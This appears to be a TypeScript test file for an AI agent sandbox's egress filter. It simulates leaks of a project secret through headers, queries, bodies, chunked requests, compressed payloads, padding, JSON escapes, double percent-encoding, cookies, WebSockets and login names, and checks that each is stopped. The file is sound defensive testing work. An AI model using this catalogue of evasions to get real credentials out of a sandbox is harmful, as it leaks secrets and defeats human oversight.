import { Buffer } from "node:buffer";
import { brotliCompressSync, deflateSync, gzipSync, zstdCompressSync } from "node:zlib";
import type { Finding } from "../case.ts";
import type { Probe } from "../internet/probe/types.ts";
import { raw } from "../internet/probes.ts";
import { askWith, PATIENCE_MS, request } from "./asking.ts";
import { type SecretCase, type SecretsGiven, SITE } from "./given.ts";
import { spell, SPELLINGS } from "./spellings.ts";
import { judgeWays, type Way, whereStopped } from "./ways.ts";

const SUITE = "secrets";

const PLACES: readonly Way[] = [
  ["a header", (id, text) => sendOpened(id, `GET / HTTP/1.1\r\nX: a${text}b\r\n`)],
  ["a query", (id, text) => sendOpened(id, `GET /?x=a${text}b HTTP/1.1\r\n`)],
  ["a body", (id, text) => sendOpened(id, formatPost(SITE.opened, `a${text}b`))],
  ["plain HTTP", (id, text) => sendPlain(id, formatPost(SITE.closed, `a${text}b`))],
  [
    "pieces",
    (id, text) => sendPlain(id, formatPieces(SITE.closed, [...`a${text}b`])),
  ],
];

function sendPlain(id: string, request: string): Probe {
  return raw(id, { host: "@gateway", port: 80, send: [request], waitMs: PATIENCE_MS });
}

/** To the host whose TLS is opened; what ends with its head is given the rest of it. */
function sendOpened(id: string, request: string): Probe {
  const rest = `Host: ${SITE.opened}\r\nConnection: close\r\n\r\n`;
  const isWhole = request.includes("\r\n\r\n");
  return raw(id, {
    ...{ host: "@gateway", port: 443, tls: { sni: SITE.opened }, waitMs: PATIENCE_MS },
    send: [isWhole ? request : request + rest],
  });
}

function formatPost(host: string, body: string): string {
  return `POST / HTTP/1.1\r\nHost: ${host}\r\nConnection: close\r\n` +
    `Content-Length: ${body.length}\r\n\r\n${body}`;
}

/** A chunked request, one chunk for each piece. */
function formatPieces(host: string, pieces: readonly string[]): string {
  const chunks = pieces.map((piece) => `${piece.length.toString(16)}\r\n${piece}\r\n`).join("");
  return `POST / HTTP/1.1\r\nHost: ${host}\r\nConnection: close\r\n` +
    `Transfer-Encoding: chunked\r\n\r\n${chunks}0\r\n\r\n`;
}

function checkSpellings(given: SecretsGiven): Promise<Finding | { notApplicable: string }> {
  const ways = SPELLINGS.flatMap((spelling) =>
    PLACES.map(([place, probe]): Way => [
      `${spelling} in ${place}`,
      (id, value) => probe(id, spell(value, spelling)),
    ])
  );
  return whereStopped(given, () => judgeWays(given, ways));
}

/** Far more than is held back before the first byte leaves. */
const FILLER_BYTES = 1024 * 1024;

const PACKERS: Readonly<Record<string, (bytes: Buffer) => Uint8Array>> = {
  gzip: gzipSync,
  br: brotliCompressSync,
  deflate: deflateSync,
  zstd: zstdCompressSync,
};

const OPENED = `https://${SITE.opened}/`;

const PACKED: readonly Way[] = [
  ...Object.entries(PACKERS).map(([coding, pack]): Way => [
    coding,
    (id, text) =>
      askWith(id, `-H content-encoding:${coding} ${OPENED}`, {
        line: "base64 -d",
        text: Buffer.from(pack(Buffer.from(`before ${text} behind`))).toString("base64"),
      }),
  ]),
  [
    "a megabyte in front",
    (id, text) =>
      askWith(id, `-H content-type:text/plain ${OPENED}`, {
        line: `{ head -c ${FILLER_BYTES} /dev/zero | tr '\\0' a; cat; }`,
        text,
      }),
  ],
  [
    "escapes of JSON",
    (id, text) =>
      askWith(id, `-H content-type:application/json ${OPENED}`, {
        line: "cat",
        text: JSON.stringify({ text }).replaceAll("/", "\\/"),
      }),
  ],
  [
    "percent signs twice",
    (id, text) => {
      const once = spell(text, "percent-encoded");
      return request(id, [`${OPENED}?x=${once.replaceAll("%", "%25")}`]);
    },
  ],
  [
    "a cookie behind others",
    (id, text) => request(id, ["-b", `a=1; b=${text}`, OPENED]),
  ],
  [
    "a WebSocket message",
    (id, text) => ({
      ...{ id, kind: "websocket", url: `wss://${SITE.opened}/`, waitMs: PATIENCE_MS },
      send: [`a${text}b`],
    }),
  ],
  ["the name of a login", (id, text) => request(id, ["-u", `${text}:x`, `http://${SITE.closed}/`])],
];

async function checkPacked(given: SecretsGiven): Promise<Finding | { notApplicable: string }> {
  return await whereStopped(given, () => judgeWays(given, PACKED));
}

/** A real value that got inside by another way, on its way out. */
export const LEAVING_CASES: readonly SecretCase[] = [
  {
    id: "S04",
    suite: SUITE,
    title: "a real value does not leave, however it is spelled",
    threat: "a key that lies in a file of the project is sent to whoever asks the agent for it",
    expectation:
      "seven spellings in header, query, body, plain HTTP and pieces are stopped; a random value passes in each",
    source: "agentcage",
    brokenBy: "one spelling is not looked for",
    quick: false,
    check: checkSpellings,
  },
  {
    id: "S12",
    suite: SUITE,
    title: "a real value does not leave packed",
    threat: "a compressed body, or a long one, hides the key from a search of what is on the line",
    expectation:
      "four compressions, a megabyte in front, escapes, cookies and logins are stopped; a random value passes in each",
    source: "sandcage",
    brokenBy: "what is compressed is not unpacked",
    quick: false,
    check: checkPacked,
  },
];
